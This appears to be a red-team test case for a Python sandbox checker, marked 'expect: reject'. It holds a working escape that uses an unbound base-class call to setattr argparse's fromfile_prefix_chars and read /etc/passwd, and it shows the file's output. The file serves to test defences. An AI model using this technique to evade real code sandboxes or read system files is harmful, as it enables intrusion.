# expect: reject method
# verified: reaches its goal under plain python3 (3.11) in a temp dir (fifth static red team, ok_09_method_privilege_laundered_by_base_call_setattr_argparse_passwd)
# Mechanism: rule `method`, privilege not propagated. put() does setattr(self, name, v)
#   with a computed name, so it is privileged (bound calls only). The form
#   `Base.m(self, ...)` inside a method is accepted as bound (bound_style_call: the first
#   argument is the method's own receiver), but the ENCLOSING method go() does nothing
#   privileged itself, so it is not privileged and may be called unbound with any object
#   as self: K.go(parser, ...) -> K.put(parser, ...) -> setattr(parser, ...).
#   The name written is fromfile_prefix_chars (refused by the argparse facade as a
#   keyword and as an attribute). No dunder name at run time.
# Goal reached: /etc/passwd read.
# Output under python3:
#   ['root:x:0:0:root:/root:/bin/bash', 'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
#    'bin:x:2:2:bin:/bin:/usr/sbin/nologin']
import argparse


class K:
    def put(self, name, value):
        setattr(self, name, value)

    def go(self, name, value):
        K.put(self, name, value)


parser = argparse.ArgumentParser(prog="p")
parser.add_argument("rest", nargs="*")
K.go(parser, "fromfile_prefix_chars", "@")
print(parser.parse_args(["@/etc/passwd"]).rest[:3])
